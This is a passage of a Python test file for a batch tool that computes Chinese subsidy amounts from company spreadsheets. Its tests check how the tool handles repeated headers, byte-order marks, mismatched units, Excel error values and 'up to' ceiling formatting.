    summary = tmp_path / "s.json"
    res = CliRunner().invoke(app, ["batch", str(src), "-o", str(tmp_path / "o.csv"), "--summary-json", str(summary),
                                   "-q"], env={"COLUMNS": "200"})
    assert res.exit_code == 0, res.output
    # 三(三): 1000万 × 10% = 1,000,000.00; 200万 × 10% = 200,000.00; every later row keeps its row number
    assert [(r["row"], r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("1", "甲", "1000000.00"), ("3", "乙", "1000000.00"), ("5", "企业名称有限公司", "200000.00")]
    flat = " ".join(res.output.split())
    assert "skipped: line 3: the header again (blocks pasted one under another, each with its header?)" in flat
    assert "skipped: line 5: the header again" in flat
    assert "3 evaluated, 0 bad; 2 repeated headers skipped;" in flat
    doc = json.loads(summary.read_text(encoding="utf-8"))
    assert (doc["skipped_rows"], doc["header_rows"]) == (2, 2)
    assert [k["reason"] for k in doc["skipped"]] == ["header", "header"]
    report = run_batch(src, tmp_path / "o2.csv", catalog)
    assert_workbook_skips_the_same(catalog, tmp_path, text, report)


def test_a_repeated_header_in_another_case_or_with_other_aliases_is_skipped_too(catalog, tmp_path):
    # the second block's header typed otherwise (Name, YEAR) or in Chinese under an English one: it was a bad row
    src = tmp_path / "t.csv"
    src.write_text("name,jurisdiction,year,industries,si_led_sales\nA公司,nanchang,2024,electronic-information,1000万\n"
                   "Name,Jurisdiction,YEAR,Industries,SI_LED_SALES\nB公司,nanchang,2024,electronic-information,1000万\n"
                   "企业名称,所在地,年度,行业,硅衬底LED销售额\nC公司,nanchang,2024,electronic-information,200万\n"
                   "名称公司,nanchang,2024,electronic-information,200万\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.bad_rows, report.header_rows, [k.line for k in report.skipped]) == (0, 2, [3, 5])
    # 三(三): 1000万 × 10% = 1,000,000.00; 200万 × 10% = 200,000.00
    assert [(r["row"], r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("1", "A公司", "1000000.00"), ("3", "B公司", "1000000.00"), ("5", "C公司", "200000.00"),
        ("6", "名称公司", "200000.00")]


def test_a_repeated_header_after_a_byte_order_mark_is_skipped_too(catalog, tmp_path):
    # two "CSV UTF-8" exports joined (copy /b a.csv+b.csv, cat): the second header starts with the BOM, and it
    # was a bad row with a problem per column
    block = "企业名称,所在地,年度,行业,硅衬底LED销售额\r\n{}公司,南昌,2024,电子信息,1000万\r\n"
    src = tmp_path / "joined.csv"
    src.write_bytes(b"\xef\xbb\xbf" + block.format("甲").encode() + b"\xef\xbb\xbf" + block.format("乙").encode())
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.bad_rows, report.header_rows, [k.line for k in report.skipped]) == (0, 1, [3])
    # 三(三): 1000万 × 10% = 1,000,000.00 each; 乙公司 keeps its line 4, row 3
    assert [(r["row"], r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("1", "甲公司", "1000000.00"), ("3", "乙公司", "1000000.00")]


_FIRST = "企业名称,所在地,年度,行业,营业收入,业务结算销售收入,硅衬底LED销售额"


@pytest.mark.parametrize(("second", "said"), [
    # another unit: 丁's 3000 (万元) was read as 3000 yuan, its settlement award 15.00 instead of 150,000.00
    ("企业名称,所在地,年度,行业,营业收入（万元）,业务结算销售收入（万元）,硅衬底LED销售额（万元）",
     ("column E '营业收入（万元）' (the header: '营业收入'); column F '业务结算销售收入（万元）' (the header: "
     "'业务结算销售收入'); column G '硅衬底LED销售额（万元）' (the header: '硅衬底LED销售额')")),
    # two columns swapped: each figure went into the other's field
    ("企业名称,所在地,年度,行业,营业收入,硅衬底LED销售额,业务结算销售收入",
     ("column F '硅衬底LED销售额' (the header: '业务结算销售收入'); column G '业务结算销售收入' (the header: "
     "'硅衬底LED销售额')")),
])
@pytest.mark.parametrize("jobs", [1, 2])
def test_a_repeated_header_with_other_units_or_columns_stops_the_run(catalog, tmp_path, second, said, jobs):
    # it was skipped as "the header again" and the rows under it read by the first header, exit 0
    rows = "".join(f"甲{i}有限公司,南昌,2024,电子信息,10亿,30000000,50000000\n" for i in range(200))
    text = f"{_FIRST}\n{rows}{second}\n丁科技有限公司,南昌,2024,电子信息,100000,3000,5000\n"
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    out = tmp_path / "o.csv"
    with pytest.raises(InputError) as info:
        run_batch(src, out, catalog, BatchOptions(jobs=jobs, block_bytes=4 << 10))
    assert str(info.value) == (
        f"{src}:202: line 202 repeats the header with other headings: {said}; the rows under it would be read by "
        f"the first header's columns and units, so nothing was written. Make its headings the same as the first "
        f"header's (the same columns, in the same order, with the same units), or put each table in a file of its "
        f"own, and run again")
    assert not out.exists() and list(tmp_path.iterdir()) == [src]
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    for line in text.splitlines():
        wb.active.append(line.split(","))
    wb.save(tmp_path / "t.xlsx")
    with pytest.raises(InputError, match=f"line 202 repeats the header with other headings: {re.escape(said)};"):
        run_batch(tmp_path / "t.xlsx", tmp_path / "x.csv", catalog)
    assert not (tmp_path / "x.csv").exists()


def test_a_repeated_header_the_same_but_for_aliases_and_full_width_forms_is_still_skipped(catalog, tmp_path):
    # the same fields and units, written otherwise: 公司名称 for 企业名称, full-width brackets, another case
    src = tmp_path / "t.csv"
    src.write_text("企业名称,所在地,年度,行业,营业收入（万元）,SI_LED_SALES\n甲公司,南昌,2024,电子信息,30000,1000万\n"
                   "公司名称,所在地,年度,行业,营业收入(万元),si_led_sales\n乙公司,南昌,2024,电子信息,30000,200万\n",
                   encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.bad_rows, report.header_rows, [k.line for k in report.skipped]) == (0, 1, [3])
    # 三(三): 1000万 × 10% = 1,000,000.00; 200万 × 10% = 200,000.00
    assert [(r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("甲公司", "1000000.00"), ("乙公司", "200000.00")]


@pytest.mark.parametrize(("lang", "shown"), [("en", '"up to "#,##0.00'), ("zh", '"最高 "#,##0.00')])
def test_the_results_sheet_shows_every_up_to_figure_as_a_ceiling(catalog, tmp_path, lang, shown):
    # the budget sheet said "up to"; the results sheet showed the Beijing firm's total 25,200,000.00 (all four of
    # its amounts ceilings) as a plain, certain-looking number. Each stays a number a formula can sum.
    import openpyxl

    src = Path(__file__).parent.parent / "samples" / "companies.csv"
    run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx", lang=lang))
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]
    rows = list(ws.iter_rows())
    names = [c.value for c in rows[0]]
    cells = [dict(zip(names, row)) for row in rows[1:]]
    total, up_to = ("total", "total_up_to") if lang == "en" else ("合计", "最高限额合计")
    exact = "total_exact" if lang == "en" else "确定金额合计"
    bj = next(r for r in cells if r["policy" if lang == "en" else "政策"].value == "beijing-robotics-2023")
    assert (bj[total].value, bj[total].number_format) == (25_200_000, shown)
    assert (bj[up_to].number_format, bj["key_tech_breakthrough"].number_format) == (shown, shown)
    assert bj[exact].number_format == "#,##0.00"  # 0.00 exact: no ceiling in it
    # a Nanchang row: its exact clause plain, its up-to clause and its total marked
    nc = next(r for r in cells if r["policy" if lang == "en" else "政策"].value.startswith("nanchang")
              and r["equity_investment"].value)
    assert nc["loan_interest"].number_format == "#,##0.00" and nc["equity_investment"].number_format == shown
    assert nc[total].number_format == shown
    run_batch(src, tmp_path / "l.xlsx", catalog, BatchOptions(fmt="xlsx", lang=lang, layout="long"))
    long = list(openpyxl.load_workbook(tmp_path / "l.xlsx").worksheets[0].iter_rows())
    heads = [c.value for c in long[0]]
    basis, amount = heads.index("basis" if lang == "en" else "金额性质"), heads.index("amount" if lang == "en" else "金额")
    for row in long[1:]:
        if row[amount].value:
            assert (row[amount].number_format == shown) == (row[basis].value in ("up_to", "最高")), row[3].value


def test_a_template_serial_number_alone_on_a_csv_line_is_a_blank_row(catalog, tmp_path):
    # a template's numbered rows 21-24 below 20 companies: Excel's CSV export wrote "21" alone (no trailing commas
    # past a block's first 16 rows); each was a bad row (exit 1) while the .xlsx read them as blank rows
    lines = ["序号,企业名称,所在地,年度,行业,上市公司,业务结算销售收入"]
    lines += [f"{i},公司{i},南昌,2024,电子信息,是,1234567" for i in range(1, 21)] + [str(i) for i in range(21, 25)]
    src = tmp_path / "s.csv"
    src.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8-sig"))
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.good_rows, report.bad_rows, report.blank_rows) == (20, 0, 4)
    assert {r["settlement"] for r in read(tmp_path / "o.csv")} == {"6172.84"}
    # a lone number under a first column that is read (the name) is still a line that does not line up
    src.write_bytes("企业名称,所在地,年度,行业,上市公司,业务结算销售收入\r\n甲,南昌,2024,电子信息,是,1234567\r\n21\r\n"
                    .encode())
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.good_rows, report.bad_rows) == (1, 1) and report.problems[0].value == "21"


@pytest.mark.parametrize(("first", "again"), [
    ("营业收入（万元）", "营业收入 （万元）"), ("营业收入（万元）", "revenue (万元)"), ("营业收入（万元）", "营业收入【万元】"),
    ("营业收入", "营业收入（元）"), ("营业收入（元）", "营业收入")])
def test_a_repeated_header_naming_the_same_field_and_unit_otherwise_is_skipped(catalog, tmp_path, first, again):
    # the first check compared the headings' text: 营业收入 （万元） under 营业收入（万元） stopped the run
    revenue = "30000" if "万元" in first else "300000000"  # 3亿 either way: the 5% company cap 1500万 is not reached
    src = tmp_path / "t.csv"
    src.write_text(f"企业名称,所在地,年度,行业,{first},硅衬底LED销售额\n甲公司,南昌,2024,电子信息,{revenue},1000万\n"
                   f"企业名称,所在地,年度,行业,{again},硅衬底LED销售额\n乙公司,南昌,2024,电子信息,{revenue},200万\n",
                   encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.bad_rows, report.header_rows, [k.line for k in report.skipped]) == (0, 1, [3])
    # 三(三): 1000万 × 10% = 1,000,000.00; 200万 × 10% = 200,000.00
    assert [(r["name"], r["si_led_sales"]) for r in read(tmp_path / "o.csv")] == [
        ("甲公司", "1000000.00"), ("乙公司", "200000.00")]


def test_an_excel_error_value_in_a_csv_cell_gets_the_workbook_s_message(catalog, tmp_path):
    # the .xlsx said "the cell holds Excel's error value #N/A: the formula that fills it failed …", its CSV export
    # "'#N/A' is not an amount of money": the errors files of the two differed in that line
    src = tmp_path / "na.csv"
    src.write_text("企业名称,所在地,年度,行业,营业收入（万元）,上年营业收入（万元）\n甲电子有限公司,南昌市,2024,电子信息,5000,#N/A\n"
                   "乙电子有限公司,南昌市,2024,电子信息,5000,#DIV/0!\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert [p.message.split(":")[0] for p in report.problems] == [
        "the cell holds Excel's error value #N/A", "the cell holds Excel's error value #DIV/0!"]
